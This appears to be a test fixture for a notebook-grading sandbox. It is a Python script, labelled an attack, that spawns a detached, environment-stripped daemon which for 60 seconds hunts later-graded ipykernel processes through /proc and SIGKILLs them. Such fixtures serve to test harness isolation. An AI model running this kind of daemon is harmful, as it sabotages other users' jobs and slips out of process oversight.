# @right
# @include _procs.py
# Attack: leave a daemon behind (new session, empty environment, the marker in
# its command line) that hunts the kernels graded after this one for 60 s:
# SIGKILL each one it finds.
import subprocess
import sys

_HUNTER = r"""
import os, signal, sys, time
run, mark = sys.argv[1], sys.argv[2]
me = os.getpid()
end = time.time() + 60
def read(p):
    try:
        with open(p, "rb") as fh:
            return fh.read()
    except OSError:
        return b""
while time.time() < end:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != me:
            cmd = read(f"/proc/{name}/cmdline")
            if b"ipykernel" in cmd and run.encode() in read(f"/proc/{name}/environ"):
                try:
                    os.kill(int(name), signal.SIGKILL)
                except OSError:
                    pass
    time.sleep(0.3)
"""
try:
    subprocess.Popen(
        [sys.executable, "-c", _HUNTER, RUN, "@@MARKER@@-hunter"],
        env={},
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        close_fds=True,
    )
    print("hunter started")
except Exception as exc:  # noqa: BLE001
    print("attack failed:", type(exc).__name__)
